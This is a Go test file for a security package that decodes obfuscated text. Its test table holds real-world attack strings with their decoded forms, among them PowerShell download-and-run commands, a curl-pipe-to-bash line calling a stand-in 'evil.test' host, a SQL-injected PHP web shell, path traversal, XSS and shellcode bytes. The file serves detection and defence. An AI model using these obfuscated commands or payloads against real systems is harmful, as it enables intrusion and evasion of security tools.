package decode_test

import (
	"os"
	"strings"
	"testing"

	"github.com/casemate-ai/casemate/internal/security/decode"
)

// texts returns every decoded text, one after another.
func texts(layers []decode.Layer) string {
	var b strings.Builder
	for _, l := range layers {
		b.WriteString(l.Text)
		if l.Binary != nil {
			b.WriteString("<" + l.Binary.Kind + ">")
		}
		b.WriteString("\n")
	}
	return b.String()
}

func dump(t *testing.T, layers []decode.Layer) {
	t.Helper()
	for i, l := range layers {
		kind := ""
		if l.Binary != nil {
			kind = l.Binary.Kind
		}
		t.Logf("%d (of %d) %s, %s [%d:%d]: %.200q %s", i, l.Parent, l.Op, l.Why, l.Start, l.End, l.Text, kind)
	}
}

// TestKnownTricks decodes disguises as they are written in the wild. The wanted
// text was worked out by hand or with base64, xxd, iconv and PowerShell.
func TestKnownTricks(t *testing.T) {
	tests := []struct{ name, in, want, op string }{
		{"powershell -enc", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "IEX (New-Object Net.WebClient)", "base64 + utf-16le"},
		{"short -e", "pwsh -e dwBoAG8AYQBtAGkA", "whoami", "base64 + utf-16le"},
		{"slash /ec", "powershell /ec dwBoAG8AYQBtAGkA", "whoami", "base64 + utf-16le"},
		{"echo base64 -d", "echo d2hvYW1p | base64 -d | sh", "whoami", "base64"},
		{"here string", "base64 -d <<< d2hvYW1p", "whoami", "base64"},
		{"FromBase64String", "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p'))", "whoami", "base64"},
		{"atob", `eval(atob("YWxlcnQoMSk="))`, "alert(1)", "base64"},
		{"python", `python3 -c "import base64;exec(base64.b64decode(b'aW1wb3J0IG9z'))"`, "import os", "base64"},
		{"url alphabet", "token=eyJzdWIiOiIxMjM0NTY3ODkwIn0.x", `{"sub":"1234567890"}`, "base64"},
		{"basic credentials", "Authorization: Basic YWRtaW46aHVudGVyMg==", "admin:hunter2", "base64"},
		{"folded", "cert:\nVGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRo\nZSBsYXp5IGRvZyBhbmQgcnVucyBhd2F5Lg==\n", "The quick brown fox jumps over the lazy dog and runs away.", "base64"},
		{"in a path", "GET /q/aHR0cDovL2V4YW1wbGUuY29tL2EucGhw HTTP/1.1", "http://example.com/a.php", "base64"},
		{"hex", "echo 77686f616d69202f616c6c | xxd -r -p", "whoami /all", "hex"},
		{"hex by shape", "data=706f7765727368656c6c202d656e6320", "powershell -enc ", "hex"},
		{"mysql hex", "union select 0x3c3f706870206576616c28245f504f53545b615d293b3f3e into outfile", "<?php eval($_POST[a]);?>", "hex"},
		{"escapes", `echo -e "\x77\x68\x6f\x61\x6d\x69"`, "whoami", "\\x escapes"},
		{"octal", `printf '\167\150\157\141\155\151' | sh`, "whoami", "octal escapes"},
		{"ansi-c quoting", `$'\x2f\x62\x69\x6e\x2f\x73\x68' -i`, "/bin/sh", "\\x escapes"},
		{"chars joined", "[char]119+[char]0x68+[char](100+11)+'ami'", "whoami", "character codes"},
		{"char array", "-join [char[]](119,104,111,97,109,105)", "whoami", "character codes"},
		{"char block", "(119,104,111,97,109,105 | %{[char]$_}) -join ''", "whoami", "character codes"},
		{"split and hex block", "-join('77,68,6f,61,6d,69' -split ',' | ForEach-Object {[char]([convert]::ToInt32($_,16))})", "whoami", "character codes"},
		{"xor block", "-join ((84,75,76,66,78,74) | %{[char]($_ -bxor 35)})", "whoami", "xor 0x23"},
		{"format", `&("{2}{0}{1}" -f 'o','ami','wh')`, "whoami", "format operator"},
		{"replace", "('whXXoaXXmi').Replace('XX','')", "whoami", "replace"},
		{"-replace", "('wh#oa#mi' -replace '#','')", "whoami", "replace"},
		{"concat", "& ('who'+'am'+'i')", "whoami", "string concatenation"},
		{"variables", "$a='http://';$b='evil.test';(New-Object Net.WebClient).DownloadString($a+$b+'/x')", "http://evil.test/x", "string concatenation"},
		{"comspec index", "&($env:ComSpec[4,24,25]-join'') $x", "'iex'", "index"},
		{"reverse range", "'imaohw'[-1..-6] -join ''", "whoami", "index"},
		{"strreverse", `Execute StrReverse("imaohw"&" c/ dmc")`, "cmd /c whoami", "reverse"},
		{"vbs chr", `x = Chr(119)&Chr(104)&Chr(111) & "ami"`, "whoami", "character codes"},
		{"fromCharCode", "eval(String.fromCharCode(97,108,101,114,116,40,49,41))", "alert(1)", "character codes"},
		{"js reverse", "'exe.clac'.split('').reverse().join('')", "calc.exe", "reverse"},
		{"js replace", "'caqlcq.exqe'.replace(/q/g,'')", "calc.exe", "replace"},
		{"python reverse", "'imaohw ;di'[::-1]", "id; whoami", "reverse"},
		{"sql char", "CHAR(119)+CHAR(104)+CHAR(111)+CHAR(97)", "whoa", "character codes"},
		{"caret", "cmd /c p^o^w^e^r^s^h^e^l^l -c whoami", "powershell -c whoami", "caret removal"},
		{"backtick", "i`e`x (n`ew-ob`ject net.webclient)", "iex (new-object net.webclient)", "backtick removal"},
		{"set variables", "cmd /c set x=power&&set y=shell&&call %x%%y% -c whoami", "powershell -c whoami", "cmd variables"},
		{"substring", "%COMSPEC:~-7,1%md /c", "cmd /c", "cmd variables"},
		{"percent", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "<script>alert(1)</script>", "percent encoding"},
		{"double percent", "/a/%252e%252e%252fetc%252fpasswd", "../etc/passwd", "percent encoding"},
		{"entities", "&#x3c;script&#62;", "<script>", "HTML entities"},
		{"u escapes", `{"cmd":"\u0077hoami\u0020\u002fall"}`, "whoami /all", "\\u escapes"},
		{"unescape", "unescape('%77%68%6f%61%6d%69')", "whoami", "percent encoding"},
		{"ifs", "cat${IFS}/etc/passwd", "cat /etc/passwd", "shell variables"},
		{"path slice", "cat ${PATH:0:1}etc${PATH:0:1}passwd", "cat /etc/passwd", "shell variables"},
		{"quote split", "w'h'o'a'mi && c\"\"at /etc/passwd", "whoami && cat /etc/passwd", "shell quoting"},
		{"empty parameter", "wh$@oami", "whoami", "shell variables"},
		{"shell words", "a=who;b=ami;$a$b", "whoami", "shell variables"},
		{"rot13", `echo 'phey uggc://rivy.grfg/n.fu | onfu' | tr 'A-Za-z' 'N-ZA-Mn-za-m'`, "curl http://evil.test/a.sh | bash", "rot13"},
		{"userassist", `HKCU\UserAssist\{1NP14R77-02R7-4R5Q-O744-2RO1NR5198O7}\pzq.rkr`, "cmd.exe", "rot13"},
		{"reversed mark", `"'sbv.a/tset.live//:ptth'"`, "http://evil.test/a.vbs", "reverse"},
		{"tags", "hello\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065", "helloignore", "hidden Unicode tags"},
		{"byte array to PE", "$b=[byte[]](0x4d,0x5a,0x90,0x00,0x03,0x00,0x00,0x00,0x04,0x00,0x00,0x00,0xff,0xff)", "<Windows executable (PE)>", "hex bytes"},
		{"shellcode", `buf = "\xfc\xe8\x82\x00\x00\x00\x60\x89\xe5\x31\xc0\x64\x8b\x50\x30"`, "<shellcode-like>", "\\x escapes"},
		{"PE", "$x='TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAA'", "<Windows executable (PE)>", "base64"},
		{"percent u shellcode", "unescape('%u9090%u9090%u9090%u9090%ue8fc%u0082')", "<shellcode-like>", "\\x escapes"},
		{"gzip in powershell", "IEX(New-Object IO.StreamReader((New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAACAyvPyE/MzVTQT8zJsVYIL8osSdX1yC8uUcjIBAAT6K7GGgAAAA=='))),0))).ReadToEnd()", "whoami /all", "base64 + gzip"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			layers := decode.Layers(tt.in, decode.Options{})
			if !strings.Contains(texts(layers), tt.want) {
				dump(t, layers)
				t.Fatalf("Layers(%q) does not reveal %q", tt.in, tt.want)
			}
			for _, l := range layers {
				if strings.Contains(l.Op, tt.op) {
					return
				}
			}
			dump(t, layers)
			t.Errorf("Layers(%q) has no operation %q", tt.in, tt.op)
		})
	}
}

// TestOrdinaryText holds what must never be "decoded".
func TestOrdinaryText(t *testing.T) {
	data, err := os.ReadFile("testdata/ordinary.txt")
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimRight(string(data), "\n"), "\n") {
		if layers := decode.Layers(line, decode.Options{}); len(layers) > 0 {
			dump(t, layers)
			t.Errorf("Layers(%q) = %d layers, want none", line, len(layers))
		}
	}
}
